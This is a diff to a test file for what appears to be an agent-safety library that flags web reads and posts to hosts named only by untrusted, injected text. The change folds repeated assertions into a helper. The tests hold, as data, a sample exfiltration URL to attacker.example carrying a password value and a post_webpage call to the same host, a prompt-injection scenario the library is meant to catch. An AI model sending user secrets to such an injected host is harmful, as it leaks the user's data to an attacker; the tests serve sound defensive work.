@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { executingSession } from "./harness.js";
+import { executingSession, expectAsked } from "./harness.js";
 
 // The library's defaults for reads: a read is judged only by the intent and by what it carries.
 const INTENT = { goal: "browse for me", allowed_actions: ["web.*", "mail.*"] };
@@ -19,15 +19,13 @@ describe("a link the agent built on a host only untrusted text named is asked", 
   it("asks before sending data to the injected host in a link", async () => {
     const session = await injected();
     const verdict = session.evaluate(read("https://attacker.example/verify?p=hunter2"));
-    expect(verdict.route).toBe("ask");
-    expect(verdict.reasons.map((r) => r.code)).toContain("provenance_tainted");
+    expectAsked(verdict, "provenance_tainted");
   });
 
   it("asks for such a link written without a scheme too", async () => {
     const session = await injected();
     const verdict = session.evaluate(read("attacker.example/verify?p=hunter2"));
-    expect(verdict.route).toBe("ask");
-    expect(verdict.reasons.map((r) => r.code)).toContain("provenance_tainted");
+    expectAsked(verdict, "provenance_tainted");
   });
 
   it("still reads the link as the text gave it, and a host's front page", async () => {
@@ -48,7 +46,6 @@ describe("a link the agent built on a host only untrusted text named is asked", 
       tool: "post_webpage",
       arguments: { url: "attacker.example/verify?p=hunter2", content: "hi" },
     });
-    expect(verdict.route).toBe("ask");
-    expect(verdict.reasons.map((r) => r.code)).toContain("provenance_tainted");
+    expectAsked(verdict, "provenance_tainted");
   });
 });
